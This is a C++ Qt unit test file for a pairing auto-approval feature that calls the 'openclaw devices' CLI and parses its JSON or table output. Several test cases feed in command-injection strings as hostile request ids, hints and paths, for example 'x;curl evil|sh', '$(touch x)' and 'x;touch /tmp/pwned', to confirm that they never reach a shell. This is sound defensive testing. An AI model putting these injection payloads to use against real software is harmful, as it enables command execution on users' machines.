// Pairing auto-approval: a gateway that answers NOT_PAIRED gets this device
// approved through the openclaw tool, found in the tool's listing (JSON, or
// the table as a fallback), and the socket connects again. The tool runs
// with argument lists: hostile ids and paths never reach a shell's parser.
#include "fake_openclaw_command.h"
#include "gateway/gateway_device_identity.h"
#include "gateway/gateway_protocol.h"
#include "gateway/gateway_web_socket.h"
#include "gateway/pairing_approver.h"
#include "gateway/pairing_request_parser.h"
#include "gateway_timings.h"
#include "gateway_ws_stand_in.h"
#include "log_capture.h"
#include "platform/secrets/credential_store.h"
#include "platform/secrets/secret_backend.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <qcoro/qcorotimer.h>

#include <algorithm>

using namespace halvex;
using test::GatewayWsStandIn;

namespace {

constexpr int kWaitMs = 30000;
const QString kDeviceId = QStringLiteral("7ceb7c9eea05d56a380bfa67c21fbc296b90c428666cf218d7ae5fc1769ecb57");

// What `openclaw devices list` of OpenClaw 2026.9.6 printed for one pending
// request (device id as above), captured from the real tool.
const QString kRealTable = QStringLiteral("Pending (1)\n"
                                          "┌──────────────────────────────────────┬────────────────┬──────────────────┬"
                                          "──────────────────┬──────────┬─────────────┐\n"
                                          "│ Request                              │ Device         │ Requested        "
                                          "│ Approved         │ Age      │ Status      │\n"
                                          "├──────────────────────────────────────┼────────────────┼──────────────────┼"
                                          "──────────────────┼──────────┼─────────────┤\n"
                                          "│ 21424598-563b-4ac5-8ea8-3961d8ea7704 │ 7ceb7c9eea05d5 │ roles:           "
                                          "│ none             │ just now │ new pairing │\n"
                                          "│                                      │ 6a380bfa67c21f │ operator;        "
                                          "│                  │          │             │\n"
                                          "│                                      │ bc296b90c42866 │ scopes:          "
                                          "│                  │          │             │\n"
                                          "│                                      │ 6cf218d7ae5fc1 │ operator.admin,  "
                                          "│                  │          │             │\n"
                                          "│                                      │ 769ecb57 · 10. │ operator.        "
                                          "│                  │          │             │\n"
                                          "│                                      │ 213.0.1        │ approvals,       "
                                          "│                  │          │             │\n"
                                          "└──────────────────────────────────────┴────────────────┴──────────────────┴"
                                          "──────────────────┴──────────┴─────────────┘");

// And `openclaw devices list --json`, shortened.
QString realJson(const QString &deviceId, const QString &requestId)
{
    return QStringLiteral(R"({
  "pending": [
    {
      "requestId": "%2",
      "deviceId": "%1",
      "clientId": "openclaw-ios",
      "role": "operator",
      "remoteIp": "10.213.0.1",
      "silent": false
    }
  ],
  "paired": [
    {"deviceId": "ffff%1", "requestId": "old-request"}
  ]
})")
        .arg(deviceId, requestId);
}

// A process runner that records every request and answers from a script.
struct RecordingRunner {
    QList<ProcessRequest> requests;
    std::function<ProcessOutcome(const ProcessRequest &request)> respond;

    ProcessRunner runner()
    {
        return [this](ProcessRequest request) { return run(this, std::move(request)); };
    }
    static QCoro::Task<ProcessOutcome> run(RecordingRunner *runner, ProcessRequest request)
    {
        runner->requests << request;
        co_return runner->respond ? runner->respond(request) : ProcessOutcome{};
    }
    // Each request as one line: program, then arguments, "|"-separated.
    QStringList lines() const
    {
        QStringList lines;
        for (const ProcessRequest &request : requests)
            lines << (QStringList{request.program} + request.arguments).join(QLatin1Char('|'));
        return lines;
    }
};

ProcessOutcome printed(const QString &output, int exitCode = 0)
{
    ProcessOutcome outcome;
    outcome.status = ProcessOutcome::Status::finished;
    outcome.exitCode = exitCode;
    outcome.standardOutput = output.toUtf8();
    return outcome;
}

ProcessOutcome cannotStart()
{
    ProcessOutcome outcome;
    outcome.status = ProcessOutcome::Status::failedToStart;
    return outcome;
}

bool isList(const ProcessRequest &request, bool json)
{
    const QStringList tail = request.arguments.mid(request.arguments.indexOf(QStringLiteral("devices")));
    return tail.value(1) == QLatin1String("list") && (tail.value(2) == QLatin1String("--json")) == json;
}

bool isApprove(const ProcessRequest &request)
{
    return request.arguments.contains(QStringLiteral("approve"));
}

// The login shell asked for its PATH (a fixed script, nothing else).
bool isLoginShell(const ProcessRequest &request)
{
    return request.arguments.value(0) == QLatin1String("-lc");
}

ProcessOutcome loginPath(const QString &path)
{
    return printed(QStringLiteral("HALVEX_LOGIN_PATH=") + path + QLatin1Char('\n'));
}

// A client and a gateway that knows only approved request ids; approving
// `requestId` (whatever command does it) pairs the device.
struct Rig {
    explicit Rig(ProcessRunner runner = {})
        : credentials(std::make_unique<CredentialStore>(std::make_unique<MemorySecretBackend>())),
          socket(credentials.get(), test::fastGatewayTimings(), std::move(runner))
    {
        listening = gateway.listen();
        gateway.setCloseAfterRefusal(1008); // as the real gateway does
        gateway.setPairingCheck([this](const QString &) { return paired; });
    }

    QString deviceId() const { return socket.deviceIdentity()->deviceId(); }
    bool waitForState(const GatewayLinkState &state)
    {
        return QTest::qWaitFor([&] { return socket.state() == state; }, kWaitMs);
    }

    test::LogCapture log;
    GatewayWsStandIn gateway;
    bool listening = false;
    bool paired = false;
    std::unique_ptr<CredentialStore> credentials;
    GatewayWebSocket socket;
};

} // namespace

class TstPairingApproval : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    // --- finding the request id ---------------------------------------------

    void requestIdsFromTheJsonListing_data()
    {
        QTest::addColumn<QString>("output");
        QTest::addColumn<QStringList>("expected");
        QTest::addColumn<bool>("isListing");
        const QString shortId = kDeviceId.left(12);

        QTest::newRow("json array, deviceId and requestId")
            << QStringLiteral(R"([{"deviceId":"other","requestId":"r0"},{"deviceId":"%1","requestId":"r1"}])")
                   .arg(kDeviceId)
            << QStringList{QStringLiteral("r1")} << true;
        QTest::newRow("json array, deviceId and id")
            << QStringLiteral(R"([{"deviceId":"%1","id":"r2"}])").arg(kDeviceId) << QStringList{QStringLiteral("r2")}
            << true;
        QTest::newRow("a prefix of the device id names it")
            << QStringLiteral(R"([{"deviceId":"%1","requestId":"r4"}])").arg(kDeviceId.left(20))
            << QStringList{QStringLiteral("r4")} << true;
        // Another device's id that merely contains our short id is not ours.
        QTest::newRow("a device id holding ours is another device")
            << QStringLiteral(R"([{"deviceId":"ff%1","requestId":"r5"},{"id":"xx-%1-yy"}])").arg(shortId)
            << QStringList{} << true;
        QTest::newRow("several of ours, in order")
            << QStringLiteral(R"({"pending":[{"deviceId":"%1","requestId":"a"},{"deviceId":"x","requestId":"b"},)"
                              R"({"deviceId":"%1","requestId":"c"}]})")
                   .arg(kDeviceId)
            << QStringList{QStringLiteral("a"), QStringLiteral("c")} << true;
        QTest::newRow("json object of the 2026.9 tool")
            << realJson(kDeviceId, QStringLiteral("req-9")) << QStringList{QStringLiteral("req-9")} << true;
        QTest::newRow("json object, paired entries are no requests")
            << QStringLiteral(R"({"pending":[],"paired":[{"deviceId":"%1","requestId":"old"}]})").arg(kDeviceId)
            << QStringList{} << true;
        QTest::newRow("json after a warning line")
            << QStringLiteral("(node:1) Warning: something\n") + realJson(kDeviceId, QStringLiteral("req-10"))
            << QStringList{QStringLiteral("req-10")} << true;
        QTest::newRow("not json") << QStringLiteral("error: unknown option '--json'") << QStringList{} << false;
    }

    void requestIdsFromTheJsonListing()
    {
        QFETCH(QString, output);
        QFETCH(QStringList, expected);
        QFETCH(bool, isListing);
        const auto found = PairingRequestParser::pendingRequestIdsFromJson(output, kDeviceId);
        QCOMPARE(found.has_value(), isListing);
        QCOMPARE(found.value_or(QStringList()), expected);
    }

    void requestIdFromTheTable_data()
    {
        QTest::addColumn<QString>("output");
        QTest::addColumn<QString>("expected"); // empty: none found
        const QString shortId = kDeviceId.left(12);
        QTest::newRow("table of the 2026.9 tool")
            << kRealTable << QStringLiteral("21424598-563b-4ac5-8ea8-3961d8ea7704");
        QTest::newRow("line with the short id")
            << QStringLiteral("ID DEVICE STATUS\nabc-1  other  paired\nreq-7   %1  waiting\n").arg(kDeviceId)
            << QStringLiteral("req-7");
        // A line that mentions pending requests but not this device is
        // another device's (or a heading): never used.
        QTest::newRow("pending lines of other devices")
            << QStringLiteral("abc-1  other  paired\n  req-8  someone  PENDING\nreq-x pending\n") << QString();
        QTest::newRow("a heading before our line")
            << QStringLiteral("Pending requests:\nreq-11 %1\n").arg(shortId) << QStringLiteral("req-11");
        QTest::newRow("nothing pending") << QStringLiteral("No pending device requests.\n") << QString();
    }

    void requestIdFromTheTable()
    {
        QFETCH(QString, output);
        QFETCH(QString, expected);
        QCOMPARE(PairingRequestParser::requestIdFromLines(output, kDeviceId).value_or(QString()), expected);
    }

    void requestIdPattern()
    {
        for (const char *good : {"r1", "21424598-563b-4ac5-8ea8-3961d8ea7704", "a.b_c:d-e", "X"})
            QVERIFY2(GatewayProtocol::isValidRequestId(QLatin1String(good)), good);
        for (const char *bad : {"", "-rf", "--latest", "x;curl evil|sh", "a b", "it's", "$(touch x)", "a\nb", "é"})
            QVERIFY2(!GatewayProtocol::isValidRequestId(QString::fromUtf8(bad)), bad);
        QVERIFY(GatewayProtocol::isValidRequestId(QString(128, QLatin1Char('a'))));
        QVERIFY(!GatewayProtocol::isValidRequestId(QString(129, QLatin1Char('a'))));
    }

    // --- the approval, with a recording runner ------------------------------

    void notPairedIsApprovedFromTheJsonListing()
    {
        RecordingRunner runner;
        Rig rig(runner.runner());
        QVERIFY(rig.listening);
        const QString path = QStringLiteral("/opt/oc/openclaw");
        runner.respond = [&](const ProcessRequest &request) {
            if (isList(request, true))
                return printed(realJson(rig.deviceId(), QStringLiteral("req-json")));
            if (isApprove(request)) {
                rig.paired = true;
                return printed(QStringLiteral("Approved %1 (req-json)").arg(rig.deviceId()));
            }
            return cannotStart();
        };
        QSignalSpy approverStates(rig.socket.pairingApprover(), &PairingApprover::stateChanged);
        rig.socket.setOpenClawBinaryPath(path);
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::connected()));

        QCOMPARE(runner.lines(), QStringList({path + QStringLiteral("|devices|list|--json"),
                                              path + QStringLiteral("|devices|approve|--|req-json")}));
        for (const ProcessRequest &request : std::as_const(runner.requests)) {
            QCOMPARE(request.timeout, std::chrono::milliseconds(30000));
            QCOMPARE(request.outputCap, qint64(1 << 20));
        }
        QCOMPARE(approverStates.count(), 4); // listing, approving, done, and idle again once connected
        QCOMPARE(rig.socket.pairingApprover()->state(), PairingApprover::State::idle);
        QCOMPARE(rig.gateway.connectRecords().size(), 2);
        rig.socket.disconnect();
    }

    void theTableListingIsUsedWhenJsonIsRefused()
    {
        RecordingRunner runner;
        Rig rig(runner.runner());
        const QString path = QStringLiteral("/opt/oc/openclaw");
        QString table = kRealTable;
        runner.respond = [&](const ProcessRequest &request) {
            if (isList(request, true))
                return printed(QStringLiteral("error: unknown option '--json'"), 1);
            if (isList(request, false))
                return printed(table);
            if (isApprove(request))
                rig.paired = true;
            return printed(QString());
        };
        // The captured table, but with this client's device id.
        table.replace(QStringLiteral("7ceb7c9eea05d5"), rig.deviceId().left(14));
        rig.socket.setOpenClawBinaryPath(path);
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::connected()));
        QCOMPARE(runner.lines().value(2),
                 path + QStringLiteral("|devices|approve|--|21424598-563b-4ac5-8ea8-3961d8ea7704"));
        rig.socket.disconnect();
    }

    void theLoginPathIsTriedWhenTheToolCannotRun()
    {
        RecordingRunner runner;
        Rig rig(runner.runner());
        const QString path = QStringLiteral("/usr/local/bin/openclaw");
        const QString nodePath = QStringLiteral("PATH=/home/u/.nvm/bin:/usr/bin");
        runner.respond = [&](const ProcessRequest &request) {
            if (isLoginShell(request))
                return loginPath(nodePath.mid(5));
            if (!request.extraEnvironment.contains(nodePath))
                return printed(QStringLiteral("/usr/bin/env: 'node': No such file or directory"), 127);
            if (isList(request, true))
                return printed(realJson(rig.deviceId(), QStringLiteral("req-login")));
            rig.paired = true;
            return printed(QStringLiteral("Approved"));
        };
        rig.gateway.setIssueDeviceTokens(false);
        rig.socket.setOpenClawBinaryPath(path);
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::connected()));
        const QStringList lines = runner.lines();
        QCOMPARE(lines.size(), 4);
        QCOMPARE(lines.value(0), path + QStringLiteral("|devices|list|--json"));
        QVERIFY(isLoginShell(runner.requests.value(1)));
        // The tool itself runs directly, with the login shell's PATH.
        QCOMPARE(lines.mid(2), QStringList({path + QStringLiteral("|devices|list|--json"),
                                            path + QStringLiteral("|devices|approve|--|req-login")}));
        QCOMPARE(runner.requests.value(2).extraEnvironment, QStringList{nodePath});
        QCOMPARE(runner.requests.value(3).extraEnvironment, QStringList{nodePath});

        // A later round asks the tool again, but not the login shell.
        runner.requests.clear();
        rig.paired = false;
        rig.gateway.dropConnections();
        QVERIFY(QTest::qWaitFor([&] { return runner.requests.size() == 3 && rig.paired; }, kWaitMs));
        QVERIFY(rig.waitForState(GatewayLinkState::connected()));
        QVERIFY(std::none_of(runner.requests.cbegin(), runner.requests.cend(), isLoginShell));
        rig.socket.disconnect();
    }

    void aToolThatNeverRunsNeedsTheUser()
    {
        RecordingRunner runner;
        Rig rig(runner.runner());
        runner.respond = [](const ProcessRequest &request) {
            return isLoginShell(request) ? loginPath(QStringLiteral("/usr/bin")) : cannotStart();
        };
        rig.socket.setOpenClawBinaryPath(QStringLiteral("/opt/oc/openclaw"));
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::error(QStringLiteral("Device not paired — approve manually"))));
        QCOMPARE(runner.requests.size(), 3); // as it is, the login shell, with its PATH
        QCOMPARE(rig.socket.pairingApprover()->state(), PairingApprover::State::failed);
        QTest::qWait(100);
        QCOMPARE(rig.gateway.connectionCount(), 1);
    }

    void theGatewaysHintCountsOnlyWhenTheToolListsIt_data()
    {
        QTest::addColumn<QString>("hint");
        QTest::addColumn<QString>("listing");  // %1: this device's id
        QTest::addColumn<QString>("approved"); // empty: nothing approved
        const QString two = QStringLiteral(R"({"pending":[{"deviceId":"%1","requestId":"first"},)"
                                           R"({"deviceId":"%1","requestId":"hinted"}]})");
        QTest::newRow("listed for this device") << QStringLiteral("hinted") << two << QStringLiteral("hinted");
        QTest::newRow("not listed: the listing's own") << QStringLiteral("elsewhere") << two << QStringLiteral("first");
        QTest::newRow("hostile hint") << QStringLiteral("x;touch /tmp/pwned") << two << QStringLiteral("first");
        QTest::newRow("only another device pending")
            << QStringLiteral("theirs")
            << QStringLiteral(R"({"pending":[{"deviceId":"0000aaaa0000bbbb","requestId":"theirs"}]})") << QString();
        QTest::newRow("nothing pending, no hint") << QString() << QStringLiteral(R"({"pending":[]})") << QString();
        QTest::newRow("only hostile ids of ours")
            << QString()
            << QStringLiteral(R"({"pending":[{"deviceId":"%1","requestId":"-rf"},{"deviceId":"%1","requestId":"a;b"},)"
                              R"({"deviceId":"%1","requestId":""}]})")
            << QString();
    }

    void theGatewaysHintCountsOnlyWhenTheToolListsIt()
    {
        QFETCH(QString, hint);
        QFETCH(QString, listing);
        QFETCH(QString, approved);
        RecordingRunner runner;
        Rig rig(runner.runner());
        rig.gateway.setPairingRequestId(hint);
        runner.respond = [&](const ProcessRequest &request) {
            if (isList(request, true))
                return printed(listing.contains(QLatin1String("%1")) ? listing.arg(rig.deviceId()) : listing);
            rig.paired = true;
            return printed(QStringLiteral("Approved"));
        };
        rig.socket.setOpenClawBinaryPath(QStringLiteral("oc"));
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        if (approved.isEmpty()) {
            QVERIFY(
                rig.waitForState(GatewayLinkState::error(QStringLiteral("Device not paired — approve in OpenClaw"))));
            QCOMPARE(runner.requests.size(), 1);
            // Nothing of this device's (or only what no command may carry).
            QCOMPARE(rig.socket.pairingApprover()->pendingRequestId(), QString());
        } else {
            QVERIFY(rig.waitForState(GatewayLinkState::connected()));
            QCOMPARE(runner.lines().constLast(), QStringLiteral("oc|devices|approve|--|") + approved);
        }
        rig.socket.disconnect();
    }

    void aFailedApprovalIsFinal()
    {
        RecordingRunner runner;
        Rig rig(runner.runner());
        runner.respond = [&](const ProcessRequest &request) {
            if (isList(request, true))
                return printed(realJson(rig.deviceId(), QStringLiteral("req-1")));
            return printed(QStringLiteral("unknown request"), 1);
        };
        rig.socket.setOpenClawBinaryPath(QStringLiteral("oc"));
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::error(QStringLiteral("Device not paired — approve in OpenClaw"))));
        QTest::qWait(100);
        QCOMPARE(rig.gateway.connectionCount(), 1);
        QCOMPARE(rig.socket.pairingApprover()->state(), PairingApprover::State::failed);
        // What the user approves by hand.
        QCOMPARE(rig.socket.pairingApprover()->pendingRequestId(), QStringLiteral("req-1"));
    }

    void withoutAToolPathTheDeviceStaysUnpaired()
    {
        RecordingRunner runner;
        Rig rig(runner.runner());
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::error(QStringLiteral("Device not paired"))));
        QVERIFY(runner.requests.isEmpty());
        QTest::qWait(100);
        QCOMPARE(rig.gateway.connectionCount(), 1);
    }

    void aToolPathWithSpacesAndQuotesIsOneArgument()
    {
        RecordingRunner runner;
        Rig rig(runner.runner());
        runner.respond = [](const ProcessRequest &request) {
            return isLoginShell(request) ? loginPath(QStringLiteral("/usr/bin")) : cannotStart();
        };
        const QString path = QStringLiteral("/opt/my tools/it's $(x)/openclaw");
        rig.socket.setOpenClawBinaryPath(path);
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::error(QStringLiteral("Device not paired — approve manually"))));
        QCOMPARE(runner.requests.size(), 3);
        QCOMPARE(runner.requests.value(0).program, path);
        QCOMPARE(runner.requests.value(2).program, path);
        // The shell's script is fixed text; the path goes nowhere near it.
        QCOMPARE(runner.requests.value(1).arguments.size(), 2);
        for (const QString &argument : runner.requests.value(1).arguments)
            QVERIFY(!argument.contains(QLatin1String("openclaw")));
    }

    void aDeviceRemovedLaterIsApprovedAgain()
    {
        RecordingRunner runner;
        Rig rig(runner.runner());
        int approvals = 0;
        runner.respond = [&](const ProcessRequest &request) {
            if (isList(request, true))
                return printed(realJson(rig.deviceId(), QStringLiteral("req-%1").arg(approvals + 1)));
            ++approvals;
            rig.paired = true;
            return printed(QStringLiteral("Approved"));
        };
        rig.gateway.setIssueDeviceTokens(false);
        rig.socket.setOpenClawBinaryPath(QStringLiteral("oc"));
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::connected()));
        QCOMPARE(approvals, 1);

        // Removed in OpenClaw: the next connection is refused and approved anew.
        rig.paired = false;
        rig.gateway.dropConnections();
        QVERIFY(QTest::qWaitFor([&] { return approvals == 2; }, kWaitMs));
        QVERIFY(rig.waitForState(GatewayLinkState::connected()));
        QCOMPARE(runner.lines().constLast(), QStringLiteral("oc|devices|approve|--|req-2"));
        rig.socket.disconnect();
    }

    void disconnectDuringTheApprovalStopsIt()
    {
        struct SlowRunner {
            int calls = 0;
            static QCoro::Task<ProcessOutcome> run(SlowRunner *runner, ProcessRequest)
            {
                ++runner->calls;
                co_await QCoro::sleepFor(std::chrono::milliseconds(300));
                co_return printed(QStringLiteral("[]"));
            }
        } slow;
        Rig rig([&slow](ProcessRequest request) { return SlowRunner::run(&slow, std::move(request)); });
        rig.socket.setOpenClawBinaryPath(QStringLiteral("oc"));
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(QTest::qWaitFor([&] { return slow.calls == 1; }, kWaitMs));
        rig.socket.disconnect();
        QCOMPARE(rig.socket.state(), GatewayLinkState::disconnected());
        QTest::qWait(800);
        QCOMPARE(rig.gateway.connectionCount(), 1);
        QCOMPARE(rig.socket.state(), GatewayLinkState::disconnected());
    }

    // --- real processes and a fake tool -------------------------------------

    void aFakeToolApprovesThroughRealProcesses()
    {
        test::FakeOpenClawCommand tool;
        QVERIFY(tool.isValid());
        Rig rig; // the real process runner
        tool.setJsonListOutput(realJson(rig.deviceId(), QStringLiteral("req-fake")));
        rig.gateway.setPairingCheck(
            [&](const QString &) { return tool.approvedIds().contains(QStringLiteral("req-fake")); });
        rig.socket.setOpenClawBinaryPath(tool.path());
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::connected()));
        QCOMPARE(tool.approvedIds(), QStringList({QStringLiteral("req-fake")}));
        QCOMPARE(tool.calls(),
                 QStringList({QStringLiteral("devices list --json"), QStringLiteral("devices approve -- req-fake")}));
        rig.socket.disconnect();
    }

    void aFakeToolWithoutJsonApprovesFromItsTable()
    {
        test::FakeOpenClawCommand tool;
        QVERIFY(tool.isValid());
        Rig rig;
        QString table = kRealTable;
        table.replace(QStringLiteral("7ceb7c9eea05d5"), rig.deviceId().left(14));
        tool.setListOutput(table);
        const QString requestId = QStringLiteral("21424598-563b-4ac5-8ea8-3961d8ea7704");
        rig.gateway.setPairingCheck([&](const QString &) { return tool.approvedIds().contains(requestId); });
        rig.socket.setOpenClawBinaryPath(tool.path());
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY(rig.waitForState(GatewayLinkState::connected()));
        QCOMPARE(tool.approvedIds(), QStringList({requestId}));
        rig.socket.disconnect();
    }

    void hostileTextNeverReachesARealShell()
    {
        // A tool in a folder whose name is a shell injection, run with the
        // real login shell's PATH (the plain attempt is made to fail),
        // offered hostile request ids by the gateway and by its own listing.
        QTemporaryDir scratch;
        QVERIFY(scratch.isValid());
        const QString marker = scratch.filePath(QStringLiteral("pwned"));
        test::FakeOpenClawCommand tool(QStringLiteral("x' ; touch pwned; '$(id)"));
        QVERIFY(tool.isValid());
        RecordingRunner recorder;
        ProcessRunner runner = [&recorder](ProcessRequest request) -> QCoro::Task<ProcessOutcome> {
            recorder.requests << request;
            if (!isLoginShell(request) && request.extraEnvironment.isEmpty()) {
                ProcessOutcome missing;
                missing.status = ProcessOutcome::Status::failedToStart;
                co_return missing;
            }
            co_return co_await runProcess(std::move(request));
        };
        Rig rig(runner);
        const QString hostile = QStringLiteral("x;touch %1").arg(marker);
        rig.gateway.setPairingRequestId(hostile);
        tool.setJsonListOutput(QStringLiteral(R"({"pending":[{"deviceId":"%1","requestId":"%2"},)"
                                              R"({"deviceId":"%1","requestId":"-%3"},)"
                                              R"({"deviceId":"%1","requestId":"req-good"}]})")
                                   .arg(rig.deviceId(), hostile, QStringLiteral("-latest")));
        rig.gateway.setPairingCheck(
            [&](const QString &) { return tool.approvedIds().contains(QStringLiteral("req-good")); });
        rig.socket.setOpenClawBinaryPath(tool.path());
        rig.socket.connect(rig.gateway.httpUrl(), QStringLiteral("gw-token"));
        QVERIFY2(rig.waitForState(GatewayLinkState::connected()), qPrintable(rig.socket.state().description()));
        QCOMPARE(tool.approvedIds(), QStringList({QStringLiteral("req-good")}));
        QCOMPARE(tool.calls(),
                 QStringList({QStringLiteral("devices list --json"), QStringLiteral("devices approve -- req-good")}));
        QVERIFY(!QFile::exists(marker));
        QVERIFY(!QFile::exists(QStringLiteral("pwned")));
        QVERIFY(!QFile::exists(QFileInfo(tool.path()).dir().filePath(QStringLiteral("pwned"))));
        rig.socket.disconnect();
    }
};

QTEST_GUILESS_MAIN(TstPairingApproval)
#include "tst_pairing_approval.moc"
